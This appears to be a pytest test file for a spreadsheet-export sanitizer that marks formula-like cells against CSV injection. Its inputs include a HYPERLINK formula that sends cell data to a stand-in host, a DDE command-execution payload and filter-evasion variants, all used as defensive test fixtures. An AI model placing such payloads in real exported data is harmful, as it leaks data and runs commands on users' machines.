"""core.spreadsheet: which cells a spreadsheet would run as formulas, and that the CSV mark can be taken off again."""

from __future__ import annotations

import random

import pytest

from clientwise.core import spreadsheet


@pytest.mark.parametrize("text", [
    "=1+1", '=HYPERLINK("http://example.invalid/?d="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-1+2", "@SUM(A1:A2)",
    "\t=1", "\r=1", " =1", "\u00a0=1", "\u3000=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "-", "+", "@",
])
def test_formula_like_cells_are_marked(text):
    assert spreadsheet.is_formula_like(text)
    assert spreadsheet.neutralize(text) == "'" + text


@pytest.mark.parametrize("value", [
    "", "张伟", "abc=1", "a@example.com", "138****5678", "-5", "+8613812345678", "-1,234.50", "+86 138 1234 5678",
    "'abc", 5, -5, 1.5, None,
])
def test_other_cells_are_left_alone(value):
    assert spreadsheet.neutralize(value) == value
    assert spreadsheet.restore(value) == value


def test_restore_undoes_neutralize_for_every_text():
    rng = random.Random(20261207)
    alphabet = ["'", "=", "+", "-", "@", " ", "\t", "\r", "\n", "\u00a0", "\u3000", "＝", "1", "a", "张", ",", "."]
    texts = {"".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6))) for _ in range(20000)}
    for text in texts:
        marked = spreadsheet.neutralize(text)
        assert spreadsheet.restore(marked) == text
        # What comes out never starts a formula.
        assert not spreadsheet.is_formula_like(marked)


def test_text_already_starting_with_the_mark_keeps_it_through_a_round_trip():
    assert spreadsheet.neutralize("'=1") == "''=1"
    assert spreadsheet.restore("''=1") == "'=1"
    assert spreadsheet.restore("'=1") == "=1"
